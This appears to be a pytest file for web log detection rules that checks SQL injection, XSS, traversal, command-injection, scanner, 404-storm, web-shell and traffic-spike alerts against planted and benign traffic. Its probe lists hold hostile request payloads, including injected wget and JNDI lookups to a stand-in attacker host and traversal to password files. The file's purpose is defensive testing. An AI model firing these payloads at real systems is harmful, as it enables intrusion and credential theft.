"""Web access log rules: every probe class, scanners, 404 storms, web shells and spikes fire once
where planted, with the right group, count, window and evidence; benign look-alikes do not."""

from __future__ import annotations

import pytest
from logs_rules_support import ATTACKER, at, background, of, run, web

PROBES = {
    "logs.web.sqli": [
        "/news.php?id=1%27%20OR%20%271%27%3D%271",
        "/news.php?id=1+UNION+ALL+SELECT+NULL,NULL,version()--+-",
        "/news.php?id=1%20AND%20SLEEP(5)",
        "/login?user=admin'--",
        "/item?id=5;DROP TABLE users",
    ],
    "logs.web.xss": [
        "/search?q=%3Cscript%3Ealert(1)%3C/script%3E",
        "/p?x=%22%3E%3Cimg%20src=x%20onerror=alert(document.cookie)%3E",
        "/go?u=javascript:alert(1)",
    ],
    "logs.web.traversal": [
        "/download?file=../../../../etc/passwd",
        "/static/..%2f..%2f..%2fwindows/win.ini",
        "/page?inc=....//....//etc/shadow",
        "/app/WEB-INF/web.xml",
    ],
    "logs.web.cmd-injection": [
        "/ping?host=127.0.0.1;id",
        "/cgi-bin/test.cgi?x=|whoami",
        "/api?q=$(wget%20http://203.0.113.50/x.sh)",
        "/?x=${jndi:ldap://203.0.113.50/a}",
        "/run?c=%60uname%20-a%60",
    ],
}

BENIGN_TARGETS = [
    "/tim-kiem?q=select+from+list+of+documents",  # "select" in a search query
    "/tim-kiem?q=union+and+party+news",
    "/search?q=rock+%26+roll&page=2&id=3",
    "/tin-tuc/2024/12/phong-chong-lua-dao",
    "/static/app.js?v=3&lang=vi",
    "/api/items?sort=-date&filter=a|b",
    "/docs/../index.html",  # one ../ in a path a browser did not normalise
    "/search?q=O%27Brien",
    "/report?from=2024-01-01&to=2024-12-31",
    "/img/logo.png?w=300&h=200",
    "/tim-kiem?q=c%C3%A1ch+ch%E1%BB%8Dn+(select)+m%E1%BB%A5c",
]


@pytest.mark.parametrize("rule_id", sorted(PROBES))
def test_probe_sequence_fires_once_with_its_client_count_and_evidence(rule_id: str) -> None:
    planted = [web(600 + 20 * i, t, client=ATTACKER, status=404) for i, t in enumerate(PROBES[rule_id])]
    found = run([*background(1800), *planted])
    hits = of(found, rule_id)
    assert len(hits) == 1, hits
    hit = hits[0]
    assert hit.group == f"client={ATTACKER}"
    assert hit.count == len(planted)
    assert hit.clients == (ATTACKER,)
    assert hit.first_seen == at(600) and hit.last_seen == at(600 + 20 * (len(planted) - 1))
    assert [e.line_no for e in hit.evidence] == [r.line_no for r in planted]
    assert hit.severity in {"medium", "high"}


@pytest.mark.parametrize("rule_id", sorted(PROBES))
def test_every_planted_probe_line_matches_its_class(rule_id: str) -> None:
    for target in PROBES[rule_id]:
        assert of(run([web(0, target)], [rule_id]), rule_id), target


def test_benign_look_alikes_fire_no_probe_rule() -> None:
    records = [web(10 * i, t, client=f"198.51.100.{i}") for i, t in enumerate(BENIGN_TARGETS)]
    found = run(records, sorted(PROBES))
    assert found == []


def test_two_attacks_apart_are_two_detections_and_one_attack_is_one() -> None:
    first = [web(i, PROBES["logs.web.sqli"][1], client=ATTACKER) for i in range(50)]
    second = [web(3600 + i, PROBES["logs.web.sqli"][0], client=ATTACKER) for i in range(5)]
    hits = of(run([*first, *second], ["logs.web.sqli"]), "logs.web.sqli")
    assert [h.count for h in hits] == [50, 5]
    assert all(len(h.evidence) <= 20 for h in hits)
    assert hits[0].evidence[0].line_no == first[0].line_no
    assert hits[0].evidence[-1].line_no == first[-1].line_no


def test_scanner_user_agent_fires_once_per_client() -> None:
    scan = [web(100 + i, f"/admin{i}.php", client=ATTACKER, status=404,
                ua="Mozilla/5.00 (Nikto/2.1.6) (Evasions:None) (Test:000003)") for i in range(30)]
    other = [web(200, "/", client="192.0.2.77", ua="sqlmap/1.7.2#stable (https://sqlmap.org)")]
    hits = of(run([*background(600), *scan, *other], ["logs.web.scanner"]), "logs.web.scanner")
    assert sorted((h.group, h.count) for h in hits) == [
        ("client=192.0.2.77", 1), (f"client={ATTACKER}", 30)]


def test_ordinary_browsers_and_bots_are_not_scanners() -> None:
    agents = ["Mozilla/5.0 (X11; Linux x86_64) Gecko/20100101 Firefox/120.0",
              "Mozilla/5.0 (compatible; Googlebot/2.1; +http://www.google.com/bot.html)",
              "curl/8.5.0", "Zalo/1.0"]
    assert run([web(i, "/", ua=ua) for i, ua in enumerate(agents)], ["logs.web.scanner"]) == []


def _storm(n: int, start: float = 0.0, spacing: float = 2.0) -> list:
    return [web(start + spacing * i, f"/backup{i}.zip", client=ATTACKER, status=404) for i in range(n)]


def test_404_storm_threshold_n_minus_one_and_n() -> None:
    assert of(run(_storm(19), ["logs.web.404-storm"]), "logs.web.404-storm") == []
    hits = of(run(_storm(20), ["logs.web.404-storm"]), "logs.web.404-storm")
    assert len(hits) == 1 and hits[0].count == 20 and hits[0].group == f"client={ATTACKER}"


def test_404_storm_window_edge() -> None:
    # 20 404s spread so that the first and the 20th are just inside / just outside 2 minutes
    inside = [web(120.0 * i / 19, f"/x{i}", client=ATTACKER, status=404) for i in range(20)]
    outside = [web(121.0 * i / 19, f"/x{i}", client=ATTACKER, status=404) for i in range(20)]
    assert len(run(inside, ["logs.web.404-storm"])) == 1
    assert run(outside, ["logs.web.404-storm"]) == []


def test_a_404_or_two_per_client_is_not_a_storm() -> None:
    records = [web(i * 5, "/old-page", client=f"198.51.100.{i % 50}", status=404) for i in range(300)]
    assert run(records, ["logs.web.404-storm"]) == []


def test_webshell_rare_script_answering_posts_fires_once() -> None:
    site = background(3600, clients=40)
    forms = [web(30 * i, "/lien-he.php", client=f"198.51.100.{i % 30 + 1}", method="POST")
             for i in range(100)]  # a known form, POSTed by many visitors
    shell = [web(4000 + 60 * i, "/uploads/2024/img.php?c=1", client=ATTACKER, method="POST")
             for i in range(6)]
    found = run([*background(2000, start=4000), *site, *forms, *shell], ["logs.web.webshell"])
    assert len(found) == 1
    hit = found[0]
    assert hit.group == "path=/uploads/2024/img.php"
    assert hit.count == 6 and hit.clients == (ATTACKER,)
    assert hit.values["path"] == "/uploads/2024/img.php"


def test_webshell_scripts_used_since_the_first_hour_are_the_sites_own() -> None:
    cms = [web(600 * i, "/quan-tri/luu-bai.php", client="10.0.0.9", method="POST") for i in range(30)]
    assert run([*background(7200), *cms], ["logs.web.webshell"]) == []


def test_webshell_needs_posts_answered_200() -> None:
    gets = [web(4000 + 60 * i, "/shell.php", client=ATTACKER) for i in range(6)]
    refused = [web(4000 + 60 * i, "/x.php", client=ATTACKER, method="POST", status=403) for i in range(6)]
    two = [web(4000 + 60 * i, "/y.php", client=ATTACKER, method="POST") for i in range(2)]
    assert run([web(0, "/"), *gets, *refused, *two], ["logs.web.webshell"]) == []


def test_webshell_allowed_paths_are_never_reported() -> None:
    admin = [web(4000 + 60 * i, "/wp-login.php", client="192.0.2.5", method="POST") for i in range(10)]
    assert run([web(0, "/"), *admin], ["logs.web.webshell"]) == []


def test_webshell_live_mode_learns_the_site_first() -> None:
    early = [web(60 * i, "/admin/save.php", client="192.0.2.5", method="POST") for i in range(5)]
    later = [web(4000 + 60 * i, "/new.php", client=ATTACKER, method="POST") for i in range(3)]
    found = run([*early, *later], ["logs.web.webshell"], eager=True)
    assert [d.group for d in found] == ["path=/new.php"]


def _traffic(minutes: int, per_minute: int, start_minute: int = 0) -> list:
    step = 60.0 / per_minute
    return [web(start_minute * 60 + i * step, "/", client=f"198.51.100.{i % 200}")
            for i in range(minutes * per_minute)]


def test_spike_fires_once_with_the_peak_and_baseline() -> None:
    calm = _traffic(20, 100)
    burst = _traffic(3, 1500, start_minute=20)
    after = _traffic(5, 100, start_minute=23)
    hits = of(run([*calm, *burst, *after], ["logs.web.spike"]), "logs.web.spike")
    assert len(hits) == 1
    hit = hits[0]
    assert hit.group == "source=/var/log/nginx/access.log"
    assert hit.count == 1500
    assert float(hit.values["baseline"]) == pytest.approx(100, rel=0.05)
    assert at(20 * 60) <= hit.first_seen < at(21 * 60)
    assert hit.last_seen >= at(22 * 60)
    assert 1 <= len(hit.clients) <= 20


def test_steady_high_traffic_is_not_a_spike() -> None:
    assert run(_traffic(30, 2000), ["logs.web.spike"]) == []


def test_a_spike_needs_the_minimum_volume() -> None:
    calm = _traffic(15, 10)
    burst = _traffic(1, 200, start_minute=15)  # 20x, but under 300/minute
    assert run([*calm, *burst], ["logs.web.spike"]) == []


def test_spike_in_live_mode_fires_as_the_minute_crosses() -> None:
    calm = _traffic(12, 50)
    burst = _traffic(2, 1000, start_minute=12)
    hits = run([*calm, *burst], ["logs.web.spike"], eager=True)
    assert len(hits) == 1 and hits[0].count == 300  # max(300, 5 x 50) reached mid-minute
